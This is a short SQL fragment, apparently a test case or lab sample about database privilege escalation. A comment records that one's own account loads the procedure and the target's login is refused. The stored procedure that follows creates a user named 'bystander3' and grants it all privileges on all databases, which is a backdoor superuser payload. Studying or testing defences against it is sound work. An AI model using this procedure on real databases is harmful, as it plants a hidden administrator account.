-- own account: loads; login of the target: refused
CREATE PROCEDURE p() BEGIN CREATE USER bystander3; GRANT ALL ON *.* TO bystander3; END;
